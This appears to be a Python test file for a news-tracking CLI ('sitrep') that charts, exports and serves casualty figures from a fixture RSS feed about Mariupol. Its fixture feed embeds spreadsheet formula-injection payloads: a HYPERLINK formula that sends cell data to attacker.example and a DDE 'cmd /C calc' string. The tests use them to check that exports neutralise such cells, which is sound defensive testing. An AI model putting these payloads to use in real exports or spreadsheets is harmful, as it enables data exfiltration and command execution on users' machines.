"""`sitrep chart`, `sitrep export` and `sitrep browse` from a terminal, on feeds whose titles and
quotes carry spreadsheet formulas: a real PNG, every promised column, no live formula cell; the
ledger's canned queries answering over HTTP."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

import pytest
from click.testing import CliRunner
from PIL import Image

from bot.cli import main
from briefings.export import PROMISED
from briefings.fileserver import FileServer
from tests.bot.support import ROOT, free_port
from tests.support.claims_db import write_claims_db

LIVE = ("=", "+", "-", "@")

# A wire feed whose titles and quotes are spreadsheet formulas (the test's own text).
FORMULA_FEED = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0"><channel><title>Steppe Wire</title><link>http://feeds.test/</link>
<description>War news</description>
<item>
<title>=HYPERLINK("http://attacker.example/?q="&amp;A1,"toll") Mariupol toll rises</title>
<link>http://feeds.test/pages/toll.html</link>
<guid isPermaLink="false">steppe-1</guid>
<pubDate>Mon, 06 May 2024 09:00:00 +0000</pubDate>
<description>Russian shelling of Mariupol went on.</description>
</item>
<item>
<title>@SUM(1+1)*cmd|' /C calc'!A0 Mariupol evacuation stalls</title>
<link>http://feeds.test/pages/evacuation.html</link>
<guid isPermaLink="false">steppe-2</guid>
<pubDate>Thu, 09 May 2024 09:00:00 +0000</pubDate>
<description>Buses left Mariupol under Russian fire.</description>
</item>
</channel></rss>
"""
PAGES = {
    "toll.html": (
        "<html><body><article><h1>Mariupol toll rises</h1>"
        "<p>MARIUPOL, Ukraine — Russian shelling of Mariupol went on for a tenth day on Monday, "
        "and the Mariupol city council said 1,210 civilians had been killed in the city since "
        "the siege began.</p>"
        "<p>\"=1+2 is not a number, it is people,\" the mayor, Vadym Boichenko, told "
        "reporters.</p>"
        "<p>Russian troops pressed on towards the port as Ukrainian forces held the steel "
        "works.</p></article></body></html>"),
    "evacuation.html": (
        "<html><body><article><h1>Mariupol evacuation stalls</h1>"
        "<p>MARIUPOL, Ukraine — The Mariupol city council said on Thursday that 1,640 civilians "
        "had been killed in the city, as Russian shelling stopped buses from leaving.</p>"
        "<p>\"-Nobody can leave while the shelling goes on,\" Vadym Boichenko said.</p>"
        "<p>\"+We will try again tomorrow,\" he added.</p></article></body></html>"),
}


@pytest.fixture(scope="module")
def polled(tmp_path_factory) -> dict[str, str]:
    """The formula feed polled with extraction, as `sitrep poll` does; the CLI's environment."""
    root = tmp_path_factory.mktemp("formula-feed")
    (root / "feed.xml").write_text(FORMULA_FEED, encoding="utf-8")
    (root / "pages").mkdir()
    for name, html in PAGES.items():
        (root / "pages" / name).write_text(html, encoding="utf-8")
    env = {"SITREP_DB": str(root / "sitrep.db"), "SITREP_ALLOW_PRIVATE_ADDRESSES": "1",
           "SITREP_CONFIG_DIR": str(ROOT / "config")}
    with FileServer(root) as server:
        feeds = root / "feeds.toml"
        feeds.write_text(f'[[feeds]]\nname = "Steppe Wire"\nurl = "{server.url}feed.xml"\n'
                         f'outlet = "Steppe Wire"\n', encoding="utf-8")
        result = CliRunner().invoke(main, ["poll", "--once", "--feeds", str(feeds)], env=env)
    assert result.exit_code == 0, result.output
    assert "new stories 2" in result.output
    return env


def test_chart_writes_a_real_png_with_its_alt_text(polled, tmp_path):
    out = tmp_path / "mariupol.png"
    result = CliRunner().invoke(main, ["chart", "Mariupol", "-o", str(out), "--tz",
                                       "Europe/Kyiv"], env=polled)
    assert result.exit_code == 0, result.output
    image = Image.open(out)
    assert image.format == "PNG" and image.width > 1000
    assert "Mariupol city council" in result.output and "1,640" in result.output
    assert image.text["Description"] in result.output


def test_chart_of_nothing_is_one_clear_line(polled, tmp_path):
    result = CliRunner().invoke(main, ["chart", "Atlantis", "-o", str(tmp_path / "a.png")],
                                env=polled)
    assert result.exit_code == 1
    assert result.output.startswith("sitrep: no figure with an amount on 'Atlantis' to chart — ")
    assert not (tmp_path / "a.png").exists()


def test_chart_refuses_an_unknown_zone(polled, tmp_path):
    result = CliRunner().invoke(main, ["chart", "Mariupol", "--tz", "Mars/Olympus"], env=polled)
    assert result.exit_code == 2 and "not a time zone" in result.output


def test_export_csv_has_every_promised_column_and_no_live_formula(polled):
    result = CliRunner().invoke(main, ["export", "Mariupol", "--format", "csv"], env=polled)
    assert result.exit_code == 0, result.output
    text = result.stdout
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert rows and list(rows[0])[:len(PROMISED)] == list(PROMISED)
    cells = [cell for line in csv.reader(io.StringIO(text, newline="")) for cell in line]
    assert not [cell for cell in cells if cell.startswith(LIVE)]
    titles = {row["title"] for row in rows}
    assert any(t.startswith("'=HYPERLINK(") for t in titles)
    assert any(t.startswith("'@SUM(") for t in titles)
    quotes = {row["quote"] for row in rows if row["record"] == "quote"}
    assert any(q.startswith("'=1+2") for q in quotes), quotes
    figures = [row for row in rows if row["record"] == "figure"]
    assert {"1210", "1640"} <= {row["value"] for row in figures}
    assert {row["party"] for row in figures if row["claimant"] == "Mariupol city council"} == {
        "Ukraine"}


def test_export_json_is_the_same_rows(polled, tmp_path):
    result = CliRunner().invoke(main, ["export", "Mariupol", "--format", "json"], env=polled)
    assert result.exit_code == 0, result.output
    rows = json.loads(result.stdout)
    assert rows and all(set(PROMISED) <= set(row) for row in rows)
    strings = [v for row in rows for v in row.values() if isinstance(v, str)]
    assert not [s for s in strings if s.startswith(LIVE)]
    out = tmp_path / "claims.csv"
    written = CliRunner().invoke(main, ["export", "Mariupol", "-o", str(out)], env=polled)
    assert written.exit_code == 0 and out.read_text(encoding="utf-8").startswith("value,low,")


def test_browse_help_works_without_a_database():
    result = subprocess.run([sys.executable, "-m", "bot", "browse", "--help"], cwd=ROOT,
                            capture_output=True, text=True, timeout=60,
                            env={"PATH": "/usr/bin:/bin", "SITREP_DB": "/nonexistent/x.db"})
    assert result.returncode == 0, result.stderr
    assert "read-only" in result.stdout and "sitrep[browse]" in result.stdout


def _get(url: str) -> object:
    with urllib.request.urlopen(url, timeout=10) as response:
        return json.loads(response.read())


@pytest.fixture(scope="module")
def ledger(tmp_path_factory):
    """`sitrep browse` on the claims database, as a real process; its base URL."""
    db = write_claims_db(tmp_path_factory.mktemp("ledger") / "claims.db")
    before = db.read_bytes()
    port = free_port()
    env = {"PATH": "/usr/bin:/bin", "SITREP_DB": str(db), "SITREP_CONFIG_DIR": str(ROOT / "config")}
    process = subprocess.Popen([sys.executable, "-m", "bot", "browse", "--port", str(port)],
                               cwd=ROOT, env=env, stdout=subprocess.PIPE,
                               stderr=subprocess.PIPE, text=True)
    url = f"http://127.0.0.1:{port}"
    deadline = time.time() + 60
    try:
        while True:
            if process.poll() is not None:
                raise AssertionError(f"sitrep browse exited: {process.stderr.read()}")
            try:
                _get(f"{url}/-/versions.json")
                break
            except OSError:
                if time.time() > deadline:
                    raise
                time.sleep(0.1)
        yield url
    finally:
        process.terminate()
        process.wait(timeout=10)
    assert db.read_bytes() == before  # read-only: not one byte changed


def test_browse_canned_query_newest_value_by_party(ledger):
    rows = _get(f"{ledger}/sitrep/newest_by_party.json?_shape=array")
    newest = {row["claimant"]: (row["party"], row["value"]) for row in rows}
    assert newest["Mariupol city council"] == ("Ukraine", 2050)
    assert newest["Denis Pushilin"] == ("Russia", 1000)  # 1,000–1,300, its newest
    assert [row["party"] for row in rows][:2] == ["Russia", "Ukraine"]
    killed = _get(f"{ledger}/sitrep/newest_by_party.json?_shape=array&kind=killed")
    assert len(killed) == len(rows)
    assert _get(f"{ledger}/sitrep/newest_by_party.json?_shape=array&kind=fled") == []


def test_browse_canned_query_conflicting_claims(ledger):
    rows = _get(f"{ledger}/sitrep/conflicting_claims.json?_shape=array")
    assert [(r["quantity"], r["claimant"], r["party"], r["value"]) for r in rows] == [
        ("killed||mariupol", "Mariupol city council", "Ukraine", 2050),
        ("killed||mariupol", "@SUM(1+1)*cmd|' /C calc'!A0", None, 1100),
        ("killed||mariupol", "Denis Pushilin", "Russia", 1000),
    ]  # newest running counts only: not the council's 1,640, not the single incident's 40


def test_browse_canned_query_quotes_by_speaker(ledger):
    rows = _get(f"{ledger}/sitrep/quotes_by_speaker.json?_shape=array&speaker=Boichenko")
    assert [r["speaker"] for r in rows] == ["Vadym Boichenko"] * 3
    assert rows[0]["published"] > rows[-1]["published"]  # newest first
    everyone = _get(f"{ledger}/sitrep/quotes_by_speaker.json?_shape=array")
    assert len(everyone) == 4
    speakers = _get(f"{ledger}/sitrep/speakers.json?_shape=array")
    assert speakers[0] == {"speaker": "Vadym Boichenko", "quotes": 3,
                           "first": "2024-05-06T09:00:00+00:00",
                           "last": "2024-05-12T09:00:00+00:00"}


def test_browse_search_and_metadata(ledger):
    found = _get(f"{ledger}/sitrep/stories.json?_shape=array&_search=council&_col=title")
    assert [r["title"] for r in found] == ["Mariupol toll rises to 2,050, council says",
                                           "Mariupol council counts 1,210 civilians killed"]
    metadata = _get(f"{ledger}/-/metadata.json")
    tables = metadata["databases"]["sitrep"]["tables"]
    assert tables["figures"]["title"] == "Key figures"
    assert "who claims it" in tables["figures"]["description"]
    assert tables["figures"]["columns"]["claimant"].startswith("Who claims the figure")


def test_browse_refuses_to_write(ledger):
    request = urllib.request.Request(
        f"{ledger}/sitrep.json?sql=" + urllib.request.quote("delete from figures"))
    with pytest.raises(urllib.error.HTTPError) as refused:
        urllib.request.urlopen(request, timeout=10)
    assert refused.value.code == 400
    rows = _get(f"{ledger}/sitrep.json?_shape=array&sql="
                + urllib.request.quote("select count(*) as n from figures"))
    assert rows == [{"n": 7}]


def test_browse_without_datasette_is_one_clear_line(tmp_path):
    db = write_claims_db(tmp_path / "claims.db")
    code = ("import sys; sys.modules['datasette'] = None; sys.modules['yaml'] = None; "
            "from bot.cli import main; main(['browse'])")
    result = subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True,
                            text=True, timeout=60, env={"PATH": "/usr/bin:/bin",
                                                        "SITREP_DB": str(db)})
    assert result.returncode == 1
    assert result.stderr.strip() == (
        "sitrep: Datasette is not installed — install the browse extra: pip install "
        "'sitrep[browse]' (or pip install -e '.[browse]' in a checkout)")


def test_browse_of_a_missing_database_is_one_clear_line(tmp_path):
    result = CliRunner().invoke(main, ["browse"], env={"SITREP_DB": str(tmp_path / "none.db")})
    assert result.exit_code == 1
    assert result.output.startswith(f"sitrep: no database at {tmp_path / 'none.db'} — ")
    assert not Path(tmp_path / "none.db").exists()
